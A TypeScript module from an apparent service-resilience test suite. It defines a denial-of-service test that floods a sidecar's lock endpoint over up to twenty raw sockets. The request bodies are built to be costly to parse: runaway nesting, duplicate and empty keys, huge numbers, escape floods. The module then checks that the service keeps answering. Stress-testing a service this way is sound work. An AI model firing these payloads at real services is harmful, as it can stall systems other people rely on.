import { setTimeout as pause } from 'node:timers/promises';

import type { Attack, AttackSize } from '../attack';
import { tokenHeader } from '../attack-calls';
import { countReceived, openSockets, pour } from '../attack-sockets';

/** The limit of a body, and what stands around the members in it. */
const LONGEST_BYTES = (4 << 20) - 100;

const fill = (part: string): string => part.repeat(Math.floor(LONGEST_BYTES / part.length));

/** Texts that cost a parser more than their length: many members, deep nesting, long numbers, many escapes. */
const BODIES: Readonly<Record<string, string>> = {
  'empty keys': `{${fill('"":0,')}"resourceId":"r"}`,
  'one key again and again': `{${fill('"resourceId":"",')}"resourceId":"r"}`,
  'keys in another case': `{${fill('"RESOURCEID":"",')}"resourceId":"r"}`,
  arrays: fill('['),
  objects: fill('{"":'),
  'a long number': `{"expiryInSeconds":${fill('1')}}`,
  escapes: `{"resourceId":"${fill('\\u0000')}"}`,
  spaces: `{${fill(' ')}`,
};

const CONNECTIONS: Readonly<Record<AttackSize, number>> = { small: 8, full: 20 };

const WITHIN_MS = 8000;

/** A client that knows the token must not make the others wait. */
export const httpCostlyJson: Attack = {
  name: 'http-costly-json',
  description:
    'Twenty lock calls at a time have bodies of 4 MiB: empty keys, nesting, escapes, digits.',
  kind: 'stall',
  needs: { token: true },
  run: async ({ target, size }) => {
    const headers = Object.entries(tokenHeader(target.token)).map(
      (pair) => `${pair.join(': ')}\r\n`,
    );
    let received = 0;
    for (const body of Object.values(BODIES)) {
      const head = `POST /v1.0-alpha1/lock/lockstore HTTP/1.1\r\nHost: sidecar\r\n${headers.join('')}Content-Length: ${body.length}\r\n\r\n`;
      const sockets = await openSockets(target.httpPort, CONNECTIONS[size]);
      await Promise.all(sockets.map((socket) => pour(socket, head + body, WITHIN_MS)));
      const endsAt = performance.now() + WITHIN_MS / 4;
      const answered = () => sockets.filter((socket) => socket.bytesRead > 0 || socket.destroyed);
      while (answered().length < sockets.length && performance.now() < endsAt) await pause(20);
      received += countReceived(sockets);
      for (const socket of sockets) socket.destroy();
    }
    return [{ what: 'bytes of answers', value: received, atLeast: 100 }];
  },
};
